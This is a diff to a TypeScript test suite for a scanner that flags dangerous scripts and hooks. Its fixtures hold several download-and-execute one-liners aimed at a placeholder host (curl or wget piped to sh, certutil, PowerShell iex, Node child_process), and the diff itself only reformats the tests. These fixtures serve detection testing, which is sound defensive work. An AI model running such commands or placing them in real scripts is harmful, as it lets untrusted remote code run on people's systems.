@@ -68,11 +68,7 @@ describe('what is dangerous in a script', () => {
     ['a.sh', '#!/bin/sh\nset -e\ncurl https://x.example/a | sh\n', DOWNLOADS],
     ['.husky/pre-commit', 'wget -qO- https://x.example/a | bash\n', DOWNLOADS],
     ['bin/tool', '#!/usr/bin/env bash\nsource <(curl https://x.example/a)\n', DOWNLOADS],
-    [
-      'a.bat',
-      '@echo off\r\ncertutil -urlcache -f https://x.example/a.exe a.exe\r\na.exe\r\n',
-      DOWNLOADS,
-    ],
+    ['a.bat', 'certutil -urlcache -f https://x.example/a.exe a.exe\r\na.exe\r\n', DOWNLOADS],
     ['a.ps1', 'iex (iwr https://x.example/a)', DOWNLOADS],
     ['a.js', "require('child_process').execSync('curl https://x.example/a | sh')", DOWNLOADS],
     ['a.mjs', "spawnSync('sh', ['-c', 'wget -qO- https://x.example/a | sh'])", DOWNLOADS],
@@ -90,12 +86,10 @@ describe('what is dangerous in a script', () => {
 describe('a script behind a hook', () => {
   const said = async (base: Files, head: Files) =>
     (await judged(base, head)).flatMap(({ findings }) =>
-      findings.map((each) => [
-        each.severity,
-        each.location?.path,
-        each.location?.line,
-        words(each).message,
-      ]),
+      findings.map((each) => {
+        const { path, line } = each.location ?? {};
+        return [each.severity, path, line, words(each).message];
+      }),
     );
   const EVIL = 'set -e\ncurl https://x.example/a | sh\n';
   it.each([
@@ -113,14 +107,8 @@ describe('a script behind a hook', () => {
   ])('%s', async (command, script) => {
     const files = { [SETTINGS]: hook(command) };
     const found = await said({ ...files, [script]: 'npm test\n' }, { ...files, [script]: EVIL });
-    expect(found).toEqual([
-      [
-        'warning',
-        script,
-        2,
-        expect.stringContaining(`runs \`${script}\`, which ${DOWNLOADS} in line 2.`),
-      ],
-    ]);
+    const told = expect.stringContaining(`runs \`${script}\`, which ${DOWNLOADS} in line 2.`);
+    expect(found).toEqual([['warning', script, 2, told]]);
   });
 
   it('says nothing of what stood there before, but of a hook that now names it', async () => {
